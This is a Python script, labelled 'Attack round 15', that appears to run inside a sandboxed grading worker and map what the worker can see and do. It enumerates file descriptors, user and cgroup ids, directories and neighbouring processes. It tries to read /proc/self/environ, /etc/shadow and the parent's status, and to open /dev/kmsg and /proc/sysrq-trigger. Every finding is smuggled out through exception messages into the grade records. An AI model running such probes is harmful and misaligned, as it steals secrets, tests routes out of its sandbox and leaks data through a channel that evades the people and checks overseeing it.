# Attack round 15: what a worker sees and may do, reported through its statements' exceptions (grades.json units).
import os, sys, resource, socket
def _r(x):
    raise RuntimeError(repr(x)[:480])
def _try(f):
    try:
        return f()
    except BaseException as e:
        return f"{type(e).__name__}:{e}"[:80]
_r({fd: _try(lambda: os.readlink(f"/proc/self/fd/{fd}")) for fd in range(0, 300) if _try(lambda: os.fstat(fd)) and not isinstance(_try(lambda: os.fstat(fd)), str)})
_r([os.getuid(), os.getgid(), os.getgroups(), os.getpid(), os.getppid(), os.getsid(0), os.getpgid(0), _try(lambda: open("/proc/self/cgroup").read())])
_r([_try(lambda: os.listdir(p)) for p in ("/", "/tmp", "/proc", "/sys/fs/cgroup", "/dev/shm", "/run", os.path.dirname(os.getcwd()))] + [os.getcwd()])
_r([(sig, _try(lambda: os.kill(pid, 0))) for sig in [0] for pid in (1, os.getppid(), os.getppid() + 1, os.getpid() + 1, os.getpid() - 1)])
_r({k: _try(lambda: open(p).read()[:60]) for k, p in {"mountinfo": "/proc/self/mountinfo", "limits": "/proc/self/limits", "environ": "/proc/self/environ", "pstat": f"/proc/{os.getppid()}/status", "shadow": "/etc/shadow", "hosts": "/etc/hostname"}.items()})
_r([_try(lambda: socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)), _try(lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)), _try(lambda: os.open("/dev/tty", os.O_RDWR)), _try(lambda: os.open("/dev/kmsg", os.O_RDONLY)), _try(lambda: os.open("/proc/sysrq-trigger", os.O_WRONLY)), _try(lambda: open("/proc/sys/kernel/ns_last_pid").read())])
_r([_try(lambda: __import__("fcntl").flock(os.open(sys.executable, os.O_RDONLY), 2 | 4)), _try(lambda: os.open(sys.executable, os.O_RDONLY)), sys.executable, _try(lambda: os.listdir(sys.prefix))])
